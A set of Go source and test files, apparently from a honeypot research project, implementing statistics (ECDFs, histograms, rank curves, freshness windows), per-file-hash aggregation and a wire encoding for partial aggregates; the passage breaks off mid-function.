	rc := RankCurve(vals)
	if !sort.IsSorted(sort.Reverse(sort.Float64Slice(rc))) {
		t.Errorf("not descending: %v", rc)
	}
	if vals[0] != 1 {
		t.Error("RankCurve must not modify input")
	}
	if got := TopShare(vals, 1); math.Abs(got-100.0/161.0) > 1e-12 {
		t.Errorf("TopShare(1) = %v", got)
	}
	if got := TopShare(vals, 10); got != 1 {
		t.Errorf("TopShare(all) = %v, want 1", got)
	}
	if got := TopShare(nil, 3); got != 0 {
		t.Errorf("TopShare(nil) = %v, want 0", got)
	}
}

func TestKnee(t *testing.T) {
	// A curve with an obvious knee: steep drop for the first 10 ranks then flat.
	vals := make([]float64, 200)
	for i := range vals {
		if i < 10 {
			vals[i] = float64(1000 * (10 - i))
		} else {
			vals[i] = 100 - float64(i)*0.1
		}
	}
	k := Knee(vals)
	if k < 5 || k > 15 {
		t.Errorf("Knee = %d, want ≈10", k)
	}
	if Knee([]float64{3, 1}) != 2 {
		t.Error("short curve knee should be len")
	}
}

func TestGiniCoefficient(t *testing.T) {
	if g := GiniCoefficient([]float64{1, 1, 1, 1}); math.Abs(g) > 1e-9 {
		t.Errorf("uniform Gini = %v, want 0", g)
	}
	g := GiniCoefficient([]float64{0, 0, 0, 100})
	if g < 0.7 {
		t.Errorf("concentrated Gini = %v, want high", g)
	}
	if GiniCoefficient(nil) != 0 {
		t.Error("empty Gini should be 0")
	}
}

func TestFreshnessWindowAllTime(t *testing.T) {
	f := NewFreshnessWindow(0)
	if got := f.Advance(0, []string{"a", "b"}); got != 2 {
		t.Errorf("day0 fresh = %d, want 2", got)
	}
	if got := f.Advance(1, []string{"a", "c"}); got != 1 {
		t.Errorf("day1 fresh = %d, want 1", got)
	}
	if got := f.Advance(100, []string{"a", "b", "c"}); got != 0 {
		t.Errorf("all-time window should never forget, fresh = %d", got)
	}
}

func TestFreshnessWindowSliding(t *testing.T) {
	f := NewFreshnessWindow(7)
	f.Advance(0, []string{"h"})
	if got := f.Advance(7, []string{"h"}); got != 0 {
		t.Errorf("within window fresh = %d, want 0", got)
	}
	if got := f.Advance(15, []string{"h"}); got != 1 {
		t.Errorf("outside window fresh = %d, want 1", got)
	}
}

func TestFreshnessWindowPanicsOnRegression(t *testing.T) {
	f := NewFreshnessWindow(0)
	f.Advance(5, nil)
	defer func() {
		if recover() == nil {
			t.Error("expected panic on day regression")
		}
	}()
	f.Advance(4, nil)
}

// Property: a shorter window never reports fewer fresh keys than a longer
// one (7-day fresh ⊇ 30-day fresh ⊇ all-time fresh), mirroring Figure 17's
// ordering of the three curves.
func TestQuickFreshnessMonotonicity(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		w7, w30, all := NewFreshnessWindow(7), NewFreshnessWindow(30), NewFreshnessWindow(0)
		keys := []string{"a", "b", "c", "d", "e", "f", "g", "h"}
		for day := 0; day < 120; day++ {
			var todays []string
			for _, k := range keys {
				if rng.Intn(10) == 0 {
					todays = append(todays, k)
				}
			}
			f7 := w7.Advance(day, todays)
			f30 := w30.Advance(day, todays)
			fa := all.Advance(day, todays)
			if f7 < f30 || f30 < fa {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}

func TestLogBins(t *testing.T) {
	edges := LogBins(1, 1000, 3)
	if len(edges) != 4 {
		t.Fatalf("len = %d", len(edges))
	}
	if edges[0] != 1 || edges[3] != 1000 {
		t.Errorf("edges = %v", edges)
	}
	if math.Abs(edges[1]-10) > 1e-9 || math.Abs(edges[2]-100) > 1e-9 {
		t.Errorf("edges = %v, want powers of 10", edges)
	}
	if LogBins(0, 10, 3) != nil || LogBins(10, 5, 3) != nil || LogBins(1, 10, 0) != nil {
		t.Error("invalid inputs should yield nil")
	}
}

func BenchmarkECDFQuantile(b *testing.B) {
	rng := rand.New(rand.NewSource(1))
	vals := make([]float64, 100000)
	for i := range vals {
		vals[i] = rng.Float64()
	}
	e := NewECDF(vals)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		e.Quantile(0.95)
	}
}

func BenchmarkFreshnessWindow(b *testing.B) {
	f := NewFreshnessWindow(30)
	keys := make([]string, 500)
	for i := range keys {
		keys[i] = string(rune('a' + i%26))
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f.Advance(i, keys)
	}
}

// TestECDFPointsSingleSample: a one-sample ECDF (e.g. a campaign tag
// seen on a single day at small scale) must plot its one point instead
// of dividing by zero.
func TestECDFPointsSingleSample(t *testing.T) {
	e := NewECDF([]float64{7})
	for _, n := range []int{1, 3, 8} {
		pts := e.Points(n)
		if len(pts) != 1 || pts[0].X != 7 || pts[0].Y != 1 {
			t.Fatalf("Points(%d) = %+v, want one (7, 1) point", n, pts)
		}
	}
}
