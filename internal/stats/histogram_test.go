package stats

import (
	"math"
	"testing"
)

func TestLogBucketsSharedLayout(t *testing.T) {
	b := LogBuckets(1e-3, 10, 8)
	if len(b) != 8 {
		t.Fatalf("LogBuckets len = %d, want 8", len(b))
	}
	edges := LogBins(1e-3, 10, 8)
	for i, v := range b {
		if v != edges[i+1] {
			t.Errorf("bound %d = %v, want LogBins edge %v", i, v, edges[i+1])
		}
	}
	if b[len(b)-1] != 10 {
		t.Errorf("last bound = %v, want 10", b[len(b)-1])
	}
	// Deterministic: two derivations are identical.
	b2 := LogBuckets(1e-3, 10, 8)
	for i := range b {
		if b[i] != b2[i] {
			t.Fatalf("LogBuckets not deterministic at %d: %v vs %v", i, b[i], b2[i])
		}
	}
	if LogBuckets(0, 10, 8) != nil || LogBuckets(1, 1, 8) != nil {
		t.Error("degenerate ranges should return nil")
	}
}

func TestHistogramObserve(t *testing.T) {
	h, err := NewHistogram([]float64{1, 10, 100})
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range []float64{0.5, 1, 2, 10, 50, 1000} {
		h.Observe(v)
	}
	want := []uint64{2, 2, 1, 1} // (..1], (1..10], (10..100], overflow
	got := h.Counts()
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("bucket %d = %d, want %d", i, got[i], want[i])
		}
	}
	if h.Count() != 6 {
		t.Errorf("Count = %d, want 6", h.Count())
	}
	if h.Sum() != 1063.5 {
		t.Errorf("Sum = %v, want 1063.5", h.Sum())
	}
}

func TestHistogramValidation(t *testing.T) {
	if _, err := NewHistogram(nil); err == nil {
		t.Error("empty bounds accepted")
	}
	if _, err := NewHistogram([]float64{1, 1}); err == nil {
		t.Error("non-ascending bounds accepted")
	}
	if _, err := NewHistogram([]float64{2, 1}); err == nil {
		t.Error("descending bounds accepted")
	}
}

func TestHistogramMerge(t *testing.T) {
	a, _ := NewHistogram([]float64{1, 10})
	b, _ := NewHistogram([]float64{1, 10})
	a.Observe(0.5)
	b.Observe(5)
	b.Observe(50)
	if err := a.Merge(b); err != nil {
		t.Fatal(err)
	}
	if a.Count() != 3 || a.Sum() != 55.5 {
		t.Errorf("merged Count=%d Sum=%v, want 3 55.5", a.Count(), a.Sum())
	}
	got := a.Counts()
	want := []uint64{1, 1, 1}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("bucket %d = %d, want %d", i, got[i], want[i])
		}
	}
	c, _ := NewHistogram([]float64{1, 20})
	if err := a.Merge(c); err == nil {
		t.Error("mismatched bounds merged")
	}
	d, _ := NewHistogram([]float64{1})
	if err := a.Merge(d); err == nil {
		t.Error("mismatched bound count merged")
	}
}

func TestHistogramQuantile(t *testing.T) {
	h, _ := NewHistogram([]float64{10, 20, 30})
	if h.Quantile(0.5) != 0 {
		t.Error("empty histogram quantile should be 0")
	}
	for i := 0; i < 10; i++ {
		h.Observe(5) // all in first bucket
	}
	// rank 5 of 10 in bucket (0,10]: linear interpolation to 5.
	if got := h.Quantile(0.5); got != 5 {
		t.Errorf("Quantile(0.5) = %v, want 5", got)
	}
	if got := h.Quantile(1); got != 10 {
		t.Errorf("Quantile(1) = %v, want 10", got)
	}
	// Overflow samples report the largest bound.
	o, _ := NewHistogram([]float64{10})
	o.Observe(99)
	if got := o.Quantile(0.5); got != 10 {
		t.Errorf("overflow Quantile = %v, want 10", got)
	}
}

func TestHistogramQuantileMonotone(t *testing.T) {
	h, _ := NewHistogram(LogBuckets(1e-3, 10, 12))
	for i := 1; i <= 100; i++ {
		h.Observe(float64(i) / 20)
	}
	prev := math.Inf(-1)
	for q := 0.0; q <= 1.0; q += 0.05 {
		v := h.Quantile(q)
		if v < prev {
			t.Fatalf("Quantile not monotone at q=%v: %v < %v", q, v, prev)
		}
		prev = v
	}
}
