package stats

// Histogram is a fixed-bucket histogram over float64 samples, built for
// the metrics plane: bucket bounds are decided once at construction
// (typically log-spaced via LogBuckets), observations are O(log n), and
// two histograms with identical bounds merge by adding counts — the
// same mergeability contract the analysis partials follow. Unlike ECDF
// it never retains samples, so it is safe to feed from an unbounded
// stream.
//
// Buckets follow the Prometheus convention: counts[i] counts samples v
// with v <= bounds[i] (and v > bounds[i-1]); the final slot counts the
// overflow (v > bounds[len-1], the "+Inf" bucket). The zero value is
// not usable; construct with NewHistogram.
type Histogram struct {
	bounds []float64 // ascending inclusive upper bounds
	counts []uint64  // len(bounds)+1; last is the +Inf bucket
	sum    float64
	n      uint64
}

// LogBuckets returns n geometrically spaced inclusive upper bounds
// covering (0, hi], the deterministic bucket layout shared between
// stats.Histogram and the internal/metrics exposition histograms. The
// first bound is lo·(hi/lo)^(1/n) — lo itself is a lower edge, not a
// bound — so LogBuckets(lo, hi, n) == LogBins(lo, hi, n)[1:].
func LogBuckets(lo, hi float64, n int) []float64 {
	edges := LogBins(lo, hi, n)
	if edges == nil {
		return nil
	}
	return edges[1:]
}

// NewHistogram builds a histogram over a copy of the given bounds,
// which must be strictly ascending and non-empty.
func NewHistogram(bounds []float64) (*Histogram, error) {
	if len(bounds) == 0 {
		return nil, errHistBounds("empty bounds")
	}
	for i := 1; i < len(bounds); i++ {
		if !(bounds[i] > bounds[i-1]) {
			return nil, errHistBounds("bounds not strictly ascending")
		}
	}
	b := append([]float64(nil), bounds...)
	return &Histogram{bounds: b, counts: make([]uint64, len(b)+1)}, nil
}

type errHistBounds string

func (e errHistBounds) Error() string { return "stats: histogram: " + string(e) }

// Observe adds one sample.
func (h *Histogram) Observe(v float64) {
	i := 0
	j := len(h.bounds)
	for i < j { // binary search: first bound >= v
		m := (i + j) / 2
		if h.bounds[m] < v {
			i = m + 1
		} else {
			j = m
		}
	}
	h.counts[i]++
	h.sum += v
	h.n++
}

// Count returns the number of observations.
func (h *Histogram) Count() uint64 { return h.n }

// Sum returns the sum of all observed values.
func (h *Histogram) Sum() float64 { return h.sum }

// Bounds returns a copy of the bucket upper bounds (the implicit final
// +Inf bound is not included).
func (h *Histogram) Bounds() []float64 { return append([]float64(nil), h.bounds...) }

// Counts returns a copy of the per-bucket (non-cumulative) counts; the
// final element is the +Inf overflow bucket.
func (h *Histogram) Counts() []uint64 { return append([]uint64(nil), h.counts...) }

// Merge adds other's counts into h. The two histograms must share
// identical bounds — the deterministic-layout contract that makes
// per-shard histograms reducible.
func (h *Histogram) Merge(other *Histogram) error {
	if len(other.bounds) != len(h.bounds) {
		return errHistBounds("merge: bound count mismatch")
	}
	for i, b := range h.bounds {
		if other.bounds[i] != b {
			return errHistBounds("merge: bound value mismatch")
		}
	}
	for i, c := range other.counts {
		h.counts[i] += c
	}
	h.sum += other.sum
	h.n += other.n
	return nil
}

// Quantile estimates the q-th quantile (0 ≤ q ≤ 1) by locating the
// bucket holding the target rank and interpolating linearly inside it.
// The overflow bucket reports its lower edge (the largest bound) — the
// histogram has no upper limit to interpolate toward. Empty histograms
// return 0.
func (h *Histogram) Quantile(q float64) float64 {
	if h.n == 0 {
		return 0
	}
	if q < 0 {
		q = 0
	}
	if q > 1 {
		q = 1
	}
	rank := q * float64(h.n)
	var cum float64
	for i, c := range h.counts {
		next := cum + float64(c)
		if next >= rank && c > 0 {
			if i == len(h.bounds) { // overflow bucket
				return h.bounds[len(h.bounds)-1]
			}
			lo := 0.0
			if i > 0 {
				lo = h.bounds[i-1]
			}
			frac := (rank - cum) / float64(c)
			return lo + (h.bounds[i]-lo)*frac
		}
		cum = next
	}
	return h.bounds[len(h.bounds)-1]
}
