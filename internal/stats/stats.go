// Package stats implements the statistical primitives behind the paper's
// figures: empirical CDFs (Figures 7, 12, 13, 22), daily percentile bands
// (median / IQR / 5th–95th, Figures 3, 4, 8, 9), sorted rank curves
// (Figures 2, 14, 18–21), and sliding-window freshness (Figure 17).
package stats

import (
	"fmt"
	"math"
	"sort"
)

// ECDF is an empirical cumulative distribution function over float64
// samples. The zero value is an empty distribution; add samples with Add
// and call Sort (or any query method, which sorts lazily) before reading.
type ECDF struct {
	samples []float64
	sorted  bool
}

// NewECDF returns an ECDF over a copy of the given samples.
func NewECDF(samples []float64) *ECDF {
	e := &ECDF{samples: append([]float64(nil), samples...)}
	e.Sort()
	return e
}

// Add appends one sample.
func (e *ECDF) Add(v float64) {
	e.samples = append(e.samples, v)
	e.sorted = false
}

// Len returns the number of samples.
func (e *ECDF) Len() int { return len(e.samples) }

// Sort orders the samples; queries call it implicitly.
func (e *ECDF) Sort() {
	if !e.sorted {
		sort.Float64s(e.samples)
		e.sorted = true
	}
}

// P returns the fraction of samples ≤ x, in [0, 1]. An empty ECDF
// returns 0.
func (e *ECDF) P(x float64) float64 {
	if len(e.samples) == 0 {
		return 0
	}
	e.Sort()
	i := sort.SearchFloat64s(e.samples, math.Nextafter(x, math.Inf(1)))
	return float64(i) / float64(len(e.samples))
}

// Quantile returns the q-th quantile (0 ≤ q ≤ 1) using nearest-rank on the
// sorted samples. An empty ECDF returns NaN.
func (e *ECDF) Quantile(q float64) float64 {
	if len(e.samples) == 0 {
		return math.NaN()
	}
	e.Sort()
	if q <= 0 {
		return e.samples[0]
	}
	if q >= 1 {
		return e.samples[len(e.samples)-1]
	}
	i := int(math.Ceil(q*float64(len(e.samples)))) - 1
	if i < 0 {
		i = 0
	}
	return e.samples[i]
}

// Points reduces the ECDF to at most n (x, P(x)) pairs for plotting,
// always including the extremes.
func (e *ECDF) Points(n int) []Point {
	e.Sort()
	m := len(e.samples)
	if m == 0 || n <= 0 {
		return nil
	}
	if n > m {
		n = m
	}
	out := make([]Point, 0, n)
	for i := 0; i < n; i++ {
		idx := m - 1
		if n > 1 {
			idx = i * (m - 1) / (n - 1)
		}
		out = append(out, Point{X: e.samples[idx], Y: float64(idx+1) / float64(m)})
	}
	return out
}

// Point is one (x, y) pair of a plotted series.
type Point struct{ X, Y float64 }

// Quantiles computes several quantiles in one pass over the sort.
func (e *ECDF) Quantiles(qs ...float64) []float64 {
	out := make([]float64, len(qs))
	for i, q := range qs {
		out[i] = e.Quantile(q)
	}
	return out
}

// Mean returns the arithmetic mean, or NaN when empty.
func (e *ECDF) Mean() float64 {
	if len(e.samples) == 0 {
		return math.NaN()
	}
	s := 0.0
	for _, v := range e.samples {
		s += v
	}
	return s / float64(len(e.samples))
}

// Band is one day's (or any bucket's) summary used by the paper's
// percentile-band time series: median, interquartile range, and the
// 5th–95th percentile range.
type Band struct {
	P5, P25, Median, P75, P95 float64
}

// BandOf summarizes one bucket of values.
func BandOf(values []float64) Band {
	e := NewECDF(values)
	q := e.Quantiles(0.05, 0.25, 0.5, 0.75, 0.95)
	return Band{P5: q[0], P25: q[1], Median: q[2], P75: q[3], P95: q[4]}
}

// Series is a bucketed percentile-band time series: Bands[i] summarizes
// bucket i (typically day i of the observation period).
type Series struct {
	Bands []Band
}

// NewSeries computes per-bucket bands from a matrix where rows are buckets
// (days) and columns are entities (honeypots): values[day][pot].
func NewSeries(values [][]float64) Series {
	s := Series{Bands: make([]Band, len(values))}
	for i, day := range values {
		s.Bands[i] = BandOf(day)
	}
	return s
}

// RankCurve sorts values in descending order, producing the "sorted by
// activity" curves of Figures 2, 14, and 18–21. The input is not modified.
func RankCurve(values []float64) []float64 {
	out := append([]float64(nil), values...)
	sort.Sort(sort.Reverse(sort.Float64Slice(out)))
	return out
}

// TopShare returns the fraction of the total contributed by the k largest
// values (e.g. "the top 10 honeypots see 14% of all sessions").
func TopShare(values []float64, k int) float64 {
	rc := RankCurve(values)
	if k > len(rc) {
		k = len(rc)
	}
	var top, total float64
	for i, v := range rc {
		if i < k {
			top += v
		}
		total += v
	}
	if total == 0 {
		return 0
	}
	return top / total
}

// Knee locates the knee of a descending rank curve as the point of maximum
// distance from the chord between the first and last points. The paper
// observes a knee around rank 11 in Figure 2. Returns the 1-based rank.
func Knee(ranked []float64) int {
	n := len(ranked)
	if n < 3 {
		return n
	}
	x1, y1 := 0.0, ranked[0]
	x2, y2 := float64(n-1), ranked[n-1]
	dx, dy := x2-x1, y2-y1
	norm := math.Hypot(dx, dy)
	best, bestDist := 0, -1.0
	for i := 1; i < n-1; i++ {
		// Perpendicular distance from (i, ranked[i]) to the chord.
		d := math.Abs(dy*float64(i)-dx*ranked[i]+x2*y1-y2*x1) / norm
		if d > bestDist {
			bestDist = d
			best = i
		}
	}
	return best + 1
}

// GiniCoefficient measures inequality of a non-negative distribution,
// used in tests to assert the heavy-tailed honeypot popularity the paper
// reports. Returns a value in [0, 1).
func GiniCoefficient(values []float64) float64 {
	n := len(values)
	if n == 0 {
		return 0
	}
	v := append([]float64(nil), values...)
	sort.Float64s(v)
	var cum, total float64
	for i, x := range v {
		cum += x * float64(i+1)
		total += x
	}
	if total == 0 {
		return 0
	}
	return (2*cum)/(float64(n)*total) - (float64(n)+1)/float64(n)
}

// FreshnessWindow tracks which string keys have been seen within a sliding
// window of buckets (days). Window 0 means "all time". It powers Figure 17:
// the fraction of each day's unique hashes not observed in the preceding
// 7 / 30 / all days.
type FreshnessWindow struct {
	window   int
	lastSeen map[string]int
	day      int
}

// NewFreshnessWindow creates a tracker. window is the number of preceding
// buckets consulted; 0 means unbounded memory (all-time freshness).
func NewFreshnessWindow(window int) *FreshnessWindow {
	return &FreshnessWindow{window: window, lastSeen: make(map[string]int), day: -1}
}

// Advance moves to bucket day (must be non-decreasing) and reports, for the
// given set of keys observed in that bucket, how many are fresh: not seen
// in the preceding `window` buckets (or ever, for window 0). All keys are
// then recorded as seen on this bucket.
func (f *FreshnessWindow) Advance(day int, keys []string) (fresh int) {
	if day < f.day {
		panic(fmt.Sprintf("stats: FreshnessWindow.Advance day %d < %d", day, f.day))
	}
	f.day = day
	for _, k := range keys {
		last, seen := f.lastSeen[k]
		if !seen || (f.window > 0 && day-last > f.window) {
			fresh++
		}
		f.lastSeen[k] = day
	}
	return fresh
}

// LogBins produces geometrically spaced bin edges covering [lo, hi] with
// n bins, for the log-scale histograms of Figures 20 and 21.
func LogBins(lo, hi float64, n int) []float64 {
	if lo <= 0 || hi <= lo || n < 1 {
		return nil
	}
	edges := make([]float64, n+1)
	ratio := math.Pow(hi/lo, 1/float64(n))
	edges[0] = lo
	for i := 1; i <= n; i++ {
		edges[i] = edges[i-1] * ratio
	}
	edges[n] = hi // guard against rounding drift
	return edges
}
