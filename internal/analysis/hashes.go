package analysis

import (
	"sort"

	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/stats"
	"honeyfarm/internal/store"
)

// Tagger labels a file hash with a campaign/malware family tag (the
// paper's VirusTotal/ClamAV cross-check: mirai, trojan, miner,
// malicious, suspicious, unknown).
type Tagger func(hash string) string

// HashStat aggregates one file hash across the dataset — one row of the
// paper's Tables 4, 5 and 6.
type HashStat struct {
	Hash      string
	Sessions  int
	ClientIPs int
	Days      int // distinct active days
	Honeypots int // distinct honeypots observing the hash
	FirstDay  int
	LastDay   int
	Tag       string
}

// hashAcc is one hash's partial aggregate.
type hashAcc struct {
	sessions int
	ips      map[string]struct{}
	days     map[int]struct{}
	pots     map[int]struct{}
	first    int
	last     int
}

// ComputeHashStats scans the dataset once and aggregates every hash.
// tag may be nil (tags become "unknown"). The scan fans out over record
// ranges into HashAccum partials — counts sum, sets union, first/last
// days min/max in the reduce — and the output sort by hash pins the
// order.
func ComputeHashStats(s *store.Store, tag Tagger) []HashStat {
	acc := mapReduce(s.Records(),
		func(recs []*honeypot.SessionRecord) *HashAccum {
			a := NewHashAccum()
			for _, r := range recs {
				a.Add(r, s.Day(r.Start))
			}
			return a
		},
		func(dst, src *HashAccum) *HashAccum {
			dst.Merge(src)
			return dst
		})
	return acc.Finalize(tag)
}

// SortHashStats orders a copy of hs by the requested key, descending,
// with the hash string as tiebreaker for determinism.
func SortHashStats(hs []HashStat, key HashSortKey) []HashStat {
	out := append([]HashStat(nil), hs...)
	less := func(a, b HashStat) bool { return a.Hash < b.Hash }
	switch key {
	case BySessions:
		less = func(a, b HashStat) bool {
			if a.Sessions != b.Sessions {
				return a.Sessions > b.Sessions
			}
			return a.Hash < b.Hash
		}
	case ByClientIPs:
		less = func(a, b HashStat) bool {
			if a.ClientIPs != b.ClientIPs {
				return a.ClientIPs > b.ClientIPs
			}
			return a.Hash < b.Hash
		}
	case ByDays:
		less = func(a, b HashStat) bool {
			if a.Days != b.Days {
				return a.Days > b.Days
			}
			return a.Hash < b.Hash
		}
	}
	sort.Slice(out, func(i, j int) bool { return less(out[i], out[j]) })
	return out
}

// HashSortKey selects the ranking for the three hash tables.
type HashSortKey uint8

// Sort keys for Tables 4, 5 and 6 respectively.
const (
	BySessions HashSortKey = iota
	ByClientIPs
	ByDays
)

// HashFreshness is Figure 17: per-day unique hash counts and the
// fraction fresh under three memories (all-time, 30 days, 7 days).
type HashFreshness struct {
	UniqueHashes []int
	FreshAll     []float64
	Fresh30      []float64
	Fresh7       []float64
}

// ComputeHashFreshness builds Figure 17's series.
func ComputeHashFreshness(s *store.Store) HashFreshness {
	days := s.NumDays()
	perDay := make([]map[string]struct{}, days)
	for i := range perDay {
		perDay[i] = make(map[string]struct{})
	}
	for _, r := range s.Records() {
		d := s.Day(r.Start)
		if d < 0 || d >= days {
			continue
		}
		for _, f := range r.Files {
			perDay[d][f.Hash] = struct{}{}
		}
	}
	hf := HashFreshness{
		UniqueHashes: make([]int, days),
		FreshAll:     make([]float64, days),
		Fresh30:      make([]float64, days),
		Fresh7:       make([]float64, days),
	}
	wAll := stats.NewFreshnessWindow(0)
	w30 := stats.NewFreshnessWindow(30)
	w7 := stats.NewFreshnessWindow(7)
	for d := 0; d < days; d++ {
		keys := make([]string, 0, len(perDay[d]))
		for h := range perDay[d] {
			keys = append(keys, h)
		}
		n := len(keys)
		hf.UniqueHashes[d] = n
		fa, f30, f7 := wAll.Advance(d, keys), w30.Advance(d, keys), w7.Advance(d, keys)
		if n > 0 {
			hf.FreshAll[d] = float64(fa) / float64(n)
			hf.Fresh30[d] = float64(f30) / float64(n)
			hf.Fresh7[d] = float64(f7) / float64(n)
		}
	}
	return hf
}

// HashClientRank is Figure 20: unique-client-IP counts per hash, in
// descending order (log-log rank plot).
func HashClientRank(hs []HashStat) []float64 {
	vals := make([]float64, len(hs))
	for i, h := range hs {
		vals[i] = float64(h.ClientIPs)
	}
	return stats.RankCurve(vals)
}

// ClientHashRank is Figure 21: unique-hash counts per client IP, in
// descending order.
func ClientHashRank(s *store.Store) []float64 {
	per := make(map[string]map[string]struct{})
	for _, r := range s.Records() {
		if len(r.Files) == 0 {
			continue
		}
		set := per[r.ClientIP]
		if set == nil {
			set = make(map[string]struct{})
			per[r.ClientIP] = set
		}
		for _, f := range r.Files {
			set[f.Hash] = struct{}{}
		}
	}
	vals := make([]float64, 0, len(per))
	for _, set := range per {
		vals = append(vals, float64(len(set)))
	}
	return stats.RankCurve(vals)
}

// CampaignDurationECDFs is Figure 22: the distribution of per-hash
// active-day counts, overall and per tag. Keys are "all" plus each tag
// present in the data.
func CampaignDurationECDFs(hs []HashStat) map[string]*stats.ECDF {
	out := map[string]*stats.ECDF{"all": new(stats.ECDF)}
	for _, h := range hs {
		out["all"].Add(float64(h.Days))
		e := out[h.Tag]
		if e == nil {
			e = new(stats.ECDF)
			out[h.Tag] = e
		}
		e.Add(float64(h.Days))
	}
	for _, e := range out {
		e.Sort()
	}
	return out
}

// HashesSeenByNPots summarizes hash visibility across honeypots: the
// fraction of hashes seen by exactly one honeypot, by more than 10, and
// by more than half of numPots (Section 8.4's headline numbers).
type HashVisibility struct {
	Total        int
	Single       float64 // seen at exactly 1 honeypot
	MoreThan10   float64
	MoreThanHalf int // absolute count, paper: "more than 200 hashes"
}

// ComputeHashVisibility summarizes Section 8.4.
func ComputeHashVisibility(hs []HashStat, numPots int) HashVisibility {
	v := HashVisibility{Total: len(hs)}
	if len(hs) == 0 {
		return v
	}
	single, gt10 := 0, 0
	for _, h := range hs {
		switch {
		case h.Honeypots == 1:
			single++
		}
		if h.Honeypots > 10 {
			gt10++
		}
		if h.Honeypots > numPots/2 {
			v.MoreThanHalf++
		}
	}
	v.Single = float64(single) / float64(len(hs))
	v.MoreThan10 = float64(gt10) / float64(len(hs))
	return v
}
