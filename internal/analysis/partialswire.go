package analysis

// The transferable form of the mergeable partial aggregates: a Partials
// bundle groups one instance of every accumulator, and Encode/Decode
// move the complete bundle through internal/wire's length-prefixed
// binary layout so a shard collector can serve its accumulator state to
// a remote merge coordinator.
//
// Two contracts matter here:
//
//   - Losslessness: DecodePartials(Encode(p)) folded into any other
//     bundle must behave exactly like folding p directly — same Merge
//     results, same Finalize outputs, byte for byte after JSON
//     encoding. TestPartialsWireMergeEquivalence pins this with
//     testing/quick over random record sets.
//   - Determinism: the encoding of a given accumulator state is one
//     exact byte string. Every map is therefore written in sorted key
//     order; nothing about Go's map iteration order can leak into the
//     bytes a shard puts on the wire.
//
// The bundle is versioned (partialsWireVersion) so a fleet can refuse a
// peer speaking a different layout instead of misdecoding it.

import (
	"fmt"
	"sort"

	"honeyfarm/internal/geo"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/wire"
)

// partialsWireVersion tags the Partials wire layout. Bump on any change
// to the encoded field set so mixed-version fleets fail loudly.
const partialsWireVersion = 1

// Partials bundles one instance of every mergeable accumulator — the
// complete foldable state behind a query snapshot. The incremental
// engine folds records into a bundle; a shard serves its bundle over
// the wire; the merge coordinator folds decoded bundles together. All
// three paths share these methods, so the fold semantics cannot drift
// between single-node and distributed operation.
type Partials struct {
	// Cats is Table 1's category × protocol accumulator.
	Cats *CategoryAccum
	// Pots is the per-honeypot accumulator, sized for the full farm
	// (every shard sizes it identically so bundles merge index-aligned).
	Pots *PotAccum
	// Clients is the per-client-IP accumulator (all categories).
	Clients *ClientAccum
	// Countries is the per-country unique-client accumulator; nil when
	// the country table is disabled (no registry).
	Countries *CountryAccum
	// Hashes is the per-file-hash accumulator.
	Hashes *HashAccum
}

// NewPartials creates an empty bundle sized for numPots honeypots.
// reg resolves client IPs for the country table and may be nil when the
// bundle will only merge decoded peers (Add requires it to locate IPs);
// countries controls whether the country table exists at all — pass
// false to produce snapshots without one, matching an engine built
// without a registry.
func NewPartials(numPots int, reg *geo.Registry, countries bool) *Partials {
	p := &Partials{
		Cats:    new(CategoryAccum),
		Pots:    NewPotAccum(numPots),
		Clients: NewClientAccum(-1),
		Hashes:  NewHashAccum(),
	}
	if countries {
		p.Countries = NewCountryAccum(reg, nil)
	}
	return p
}

// NumPots returns the per-honeypot table size the bundle was built for.
func (p *Partials) NumPots() int { return len(p.Pots.sessions) }

// Add folds one record into every accumulator, exactly as the
// incremental engine does. day is the record's day bucket (store.Day).
func (p *Partials) Add(r *honeypot.SessionRecord, day int) {
	p.Cats.Add(r)
	p.Pots.Add(r)
	p.Clients.Add(r, day)
	if p.Countries != nil {
		p.Countries.Add(r)
	}
	p.Hashes.Add(r, day)
}

// Merge folds another bundle in. The two bundles must be shaped alike
// (same pot-table size, same country-table presence) — the merge
// coordinator validates shapes at install time. The source bundle's
// entries may be adopted by reference; do not reuse it afterwards.
func (p *Partials) Merge(q *Partials) error {
	if p.NumPots() != q.NumPots() {
		return fmt.Errorf("analysis: merging partials sized for %d pots into %d", q.NumPots(), p.NumPots())
	}
	if (p.Countries == nil) != (q.Countries == nil) {
		return fmt.Errorf("analysis: merging partials with mismatched country tables")
	}
	p.Cats.Merge(q.Cats)
	p.Pots.Merge(q.Pots)
	p.Clients.Merge(q.Clients)
	if p.Countries != nil {
		p.Countries.Merge(q.Countries)
	}
	p.Hashes.Merge(q.Hashes)
	return nil
}

// Encode appends the bundle's complete state to b. The bytes are a
// deterministic function of the accumulated state: every map is walked
// in sorted key order.
func (p *Partials) Encode(b *wire.Builder) {
	b.Byte(partialsWireVersion)
	b.Bool(p.Countries != nil)
	encodeCats(b, p.Cats)
	encodePots(b, p.Pots)
	encodeClients(b, p.Clients)
	if p.Countries != nil {
		encodeCountries(b, p.Countries)
	}
	encodeHashes(b, p.Hashes)
}

// DecodePartials reads one bundle encoded by Encode. The decoded bundle
// is freshly allocated and shares nothing with the reader's buffer
// owner, so it is safe to merge and mutate.
func DecodePartials(r *wire.Reader) (*Partials, error) {
	if v := r.Byte(); r.Err() == nil && v != partialsWireVersion {
		return nil, fmt.Errorf("analysis: partials wire version %d, want %d", v, partialsWireVersion)
	}
	hasCountries := r.Bool()
	p := &Partials{
		Cats:    decodeCats(r),
		Pots:    decodePots(r),
		Clients: decodeClients(r),
	}
	if hasCountries {
		p.Countries = decodeCountries(r)
	}
	p.Hashes = decodeHashes(r)
	if err := r.Err(); err != nil {
		return nil, fmt.Errorf("analysis: decoding partials: %w", err)
	}
	return p, nil
}

// ---- per-accumulator encoders ----
//
// Counts are written as uint32 length prefixes followed by entries in
// sorted key order; int-valued counters ride as two's-complement uint64
// so negative day buckets (records before the epoch) survive.

func encodeCats(b *wire.Builder, a *CategoryAccum) {
	b.Uint32(uint32(NumCategories))
	for c := 0; c < int(NumCategories); c++ {
